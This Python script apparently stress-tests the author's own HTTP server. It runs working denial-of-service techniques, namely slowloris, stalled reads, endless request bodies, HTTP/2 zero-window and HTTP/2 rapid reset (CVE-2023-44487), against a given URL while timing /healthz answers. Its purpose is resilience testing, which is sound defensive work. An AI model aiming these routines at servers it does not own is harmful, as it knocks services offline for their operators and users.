# SPDX-License-Identifier: Apache-2.0
"""attack.py URL SECONDS KIND [COUNT]: COUNT connections do what keeps a server busy or its memory in
use, for so many seconds, while one more client asks for /healthz four times a second. Prints how
often and how late that was answered, in milliseconds; fails if it once was not, within ANSWER_MAX
seconds. Connections that the server cuts are made anew."""

import asyncio
import multiprocessing
import socket
import struct
import sys
import time
import urllib.parse

# A place is to be had from whoever has been idle for a second, and half of 1,000 may wait in front;
# the rest is this machine's load.
ANSWER_MAX = 10
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(method, path):
    """Without a dynamic table: method is 2 (GET) or 3 (POST) of the static one."""
    return bytes([0x80 | method, 0x86, 0x04, len(path)]) + path + b"\x41\x09localhost"


async def put(writer, data):
    if writer.is_closing():
        raise ConnectionError
    writer.write(data)
    await writer.drain()


async def slowloris(reader, writer):
    """A byte a second of a request that never ends."""
    await put(writer, b"GET / HTTP/1.1\r\nX: ")
    while True:
        await put(writer, b"y")
        await asyncio.sleep(1)


async def silent(reader, writer):
    """Nothing at all."""
    await reader.read(1)


async def unread(reader, writer):
    """Requests whose answers are not read."""
    reader._transport.pause_reading()
    while True:
        await put(writer, b"GET /page.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)
        await asyncio.sleep(1)


async def bodies(reader, writer):
    """A body of nearly a megabyte that does not end."""
    await put(writer, b"POST /debug/pprof/symbol HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1048576\r\n\r\n")
    for _ in range(15):
        await put(writer, b"+" * 65536)
    await reader.read(1)


async def bodies2(reader, writer):
    """The same on 100 streams of HTTP/2."""
    await put(writer, PREFACE + frame(4, 0, 0))
    for stream in range(1, 200, 2):
        await put(writer, frame(1, 4, stream, headers(3, b"/debug/pprof/symbol")))
    for _ in range(63):
        for stream in range(1, 200, 2):
            await put(writer, frame(0, 0, stream, b"+" * 16384))
    await reader.read()


async def window(reader, writer):
    """100 answers at a time of HTTP/2 for which there is no room: the window is 0."""
    await put(writer, PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)))
    for stream in range(1, 200, 2):
        await put(writer, frame(1, 5, stream, headers(2, b"/metrics")))
    while True:
        await put(writer, frame(6, 0, 0, bytes(8)))
        await asyncio.sleep(1)


async def reset(reader, writer):
    """Requests of HTTP/2 that are given up at once (CVE-2023-44487)."""
    await put(writer, PREFACE + frame(4, 0, 0))
    for first in range(1, 1 << 30, 200):
        await put(writer, b"".join(frame(1, 5, stream, headers(2, b"/debug/pprof/heap")) + frame(3, 0, stream, bytes(4))
                                   for stream in range(first, first + 200, 2)))
        await asyncio.sleep(0)


KINDS = {one.__name__: one for one in (slowloris, silent, unread, bodies, bodies2, window, reset)}


async def attacker(address, kind, until):
    while time.monotonic() < until:
        writer = None
        try:
            reader, writer = await asyncio.open_connection(*address, limit=1 << 16)
            attacker.connected += 1
            await asyncio.wait_for(kind(reader, writer), until - time.monotonic())
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            pass
        if writer:
            writer.transport.abort()
        await asyncio.sleep(0.1)


attacker.connected = 0


def ask(address):
    answer = b""
    with socket.create_connection(address, timeout=ANSWER_MAX) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        while piece := connection.recv(4096):
            answer += piece
    return answer.startswith(b"HTTP/1.1 200 ") and answer.endswith(b"\r\nok\n")


def bystander(address, seconds, result):
    """In a process of its own, which does not wait for the attackers' turns: in how many seconds each
    was answered, and whether all were."""
    times, good, until = [], True, time.monotonic() + seconds
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            good &= ask(address)
        except OSError:
            good = False
        times.append(time.monotonic() - began)
        time.sleep(0.25)
    result.put((times, good))


async def attack(address, kind, seconds, count):
    until = time.monotonic() + seconds
    await asyncio.gather(*(attacker(address, KINDS[kind], until) for _ in range(count)))


def main():
    url, seconds, kind, count = (sys.argv[1:] + ["1000"])[:4]
    place = urllib.parse.urlsplit(url)
    address = place.hostname, place.port
    result = multiprocessing.Queue()
    beside = multiprocessing.Process(target=bystander, args=(address, float(seconds), result))
    beside.start()
    asyncio.run(attack(address, kind, float(seconds), int(count)))
    times, good = result.get()
    beside.join()
    times.sort()
    good &= times[-1] <= ANSWER_MAX
    print(f"{kind}: {count} at a time, {attacker.connected} connections; {len(times)} requests beside them answered "
          f"after {times[len(times) // 2] * 1000:.0f} ms (median), {times[-1] * 1000:.0f} ms (latest)"
          f"{'' if good else '; NOT ALL ANSWERED'}")
    sys.exit(not good)


main()
